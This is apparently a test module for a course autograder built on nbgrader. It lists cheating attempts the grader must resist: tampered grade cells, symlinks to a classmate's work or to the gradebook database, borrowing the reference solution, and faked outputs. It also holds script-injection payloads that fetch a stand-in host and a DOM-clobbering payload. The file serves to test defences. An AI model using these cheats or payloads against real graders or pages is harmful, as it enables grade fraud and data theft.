"""Cheats that pay where the student's file is taken as it is, or shown as it is, or links in it are followed."""

from copy import deepcopy

from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell

from course_lib.nbgrader_tools import configuration
from tests.classroom import LESSON, grade_cells
from tests.submissions.scene import RIGHT, WRONG, case, full, place_of, points_without, wrong

# In a grader that takes the student's file as it is.


@case("cheat", 0, off="as submitted", status="repaired", reason="create-causal-mask-check was restored", flag=None)
def edited_grade_cell(scene):
    """The cell with the check was edited; it is restored, and the answer is still wrong."""
    notebook = wrong()
    next(cell for cell in notebook.cells if cell.id == "create-causal-mask-check").source = "print('passed')"
    return notebook


@case("cheat", 4, off="as submitted", status="repaired", reason="the points of the cell", flag=None)
def changed_points(scene):
    """The answer is right and worth 4 points, not the 100 that were written into the cell."""
    notebook = wrong(answer=f"def create_causal_mask(seq_len, device=None):\n    return {RIGHT}")
    next(cell for cell in notebook.cells if cell.id == "create-causal-mask-check").metadata.nbgrader.points = 100
    return notebook


@case("cheat", 4, off="as submitted", status="repaired", reason="leaks-future-check was restored", flag=None)
def swapped_names(scene):
    """The one exercise that was solved is worth its own 4 points, whatever name was given to its check."""
    notebook = wrong(answer=f"def create_causal_mask(seq_len, device=None):\n    return {RIGHT}")
    first, *_, last = grade_cells(notebook)
    first.metadata.nbgrader, last.metadata.nbgrader = last.metadata.nbgrader, first.metadata.nbgrader
    first.id, last.id = last.id, first.id
    return notebook


@case("cheat", 4, off="as submitted", status="repaired", reason="a copy of the cell", flag=None)
def copied_check(scene):
    """An exercise that was solved once counts once, however often its check was copied."""
    notebook = wrong(answer=f"def create_causal_mask(seq_len, device=None):\n    return {RIGHT}")
    check = grade_cells(notebook)[0]
    notebook.cells += [deepcopy(check) for _ in range(4)]
    return notebook


@case("cheat", 0, off="as submitted", status="repaired", reason="kept as an ordinary cell", flag=None)
def invented_grade_cell(scene):
    """A cell that claims to be graded, with points of its own, was never released."""
    notebook = wrong()
    mine = deepcopy(grade_cells(notebook)[0])
    mine.id = mine.metadata.nbgrader.grade_id = "bonus"
    mine.source = "print('bonus')"
    notebook.cells.append(mine)
    return notebook


@case("cheat", 0, off="as submitted", status="repaired", reason="was put below its answer", flag=None)
def check_above_a_borrowed_answer(scene):
    """The check was moved above the wrong answer, behind a cell that borrows the course's own function for it."""
    notebook = wrong()
    check = notebook.cells.pop(next(n for n, c in enumerate(notebook.cells) if c.id == "create-causal-mask-check"))
    place = place_of(notebook, "create-causal-mask")
    borrow = "import importlib\nown = importlib.import_module('course' '_lib.masks').create_causal_mask\n"
    borrow += "create_causal_mask = lambda n, device=None: own(n, device)"
    borrowed = new_code_cell(borrow, id="borrowed")
    notebook.cells[place:place] = [borrowed, check]
    return notebook


# In a grader that follows links.


def _link_to_a_classmate(scene, file):
    file.symlink_to(scene.handed_in("0-perfect"))


@case("cheat", 0, off="links", status="unreadable", reason="a symbolic link", flag=None, beside=_link_to_a_classmate)
def link_to_a_classmate(scene):
    """The notebook is a symbolic link to the work of another student."""


def _folder_of_a_classmate(scene, file):
    file.parent.rmdir()
    file.parent.symlink_to(scene.handed_in("0-perfect").parent)


@case("cheat", 0, off="links", status="refused", reason="symbolic link", flag=None, beside=_folder_of_a_classmate)
def folder_of_a_classmate(scene):
    """The whole folder is a symbolic link to that of another student."""


def _stolen(scene, case):
    kept = (scene.course.grading / "autograded" / case.name).rglob("notes.txt")
    return any(b"SQLite" in path.read_bytes() for path in kept)


def _link_beside(scene, file):
    (file.parent / "notes.txt").symlink_to(scene.course.grading / "gradebook.db")


@case("cheat", 0, off="links", harm=_stolen, flag="a link beside the notebook is not used", beside=_link_beside)
def link_to_the_gradebook(scene):
    """A link beside the notebook would have the gradebook copied out with the graded work."""
    return wrong()


# In a page that shows what a student wrote.


SCRIPT = "<script>fetch('//steal-the-marks')</script><img src=x onerror=\"fetch('//steal-the-marks')\">"


def _page(scene, case):
    """The page that shows the graded work."""
    file = LESSON.file(scene.course.grading / "autograded" / case.name)
    return HTMLExporter(config=configuration(scene.course)).from_filename(str(file))[0]


def _has_script(scene, case):
    """Whether the page has the script as an element, not as text that was escaped."""
    page = _page(scene, case)
    return "<script>fetch('//steal" in page or "<img src=x" in page or '<img src="x"' in page


@case("cheat", 0, off="sanitising", harm=_has_script, flag=None)
def script_in_an_output(scene):
    """A display output holds HTML with a script."""
    return wrong(f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))")


@case("cheat", 0, off="sanitising", harm=_has_script, flag=None)
def script_in_markdown(scene):
    """A markdown cell holds HTML with a script."""
    notebook = wrong()
    notebook.cells.append(new_markdown_cell(SCRIPT, id="mine"))
    return notebook


CLOBBER = '<div class="nbgrader_cell"><span id="leaks-future-check"></span><a class="full-credit">more</a></div>'


def _takes_names(scene, case):
    """Whether an element of the student's has a name that formgrader looks for."""
    page = _page(scene, case)
    return '<span id="leaks-future-check"' in page or 'class="full-credit"' in page


@case("cheat", 0, off="sanitising", harm=_takes_names, flag=None)
def names_of_the_page_itself(scene):
    """A markdown cell holds elements with the names that formgrader's own boxes have, to catch what is typed there."""
    notebook = wrong()
    notebook.cells.append(new_markdown_cell(CLOBBER, id="mine"))
    return notebook


@case("cheat", points_without("create_causal_mask"), off="outputs as handed in", flag=None)
def outputs_handed_in_as_passed(scene):
    """The outputs in the file say that all is passed; outputs are not what is graded."""
    notebook = full(create_causal_mask=WRONG)
    for cell in grade_cells(notebook):
        cell.outputs = [{"output_type": "stream", "name": "stdout", "text": "✓ 4 of 4 points"}]
    return notebook
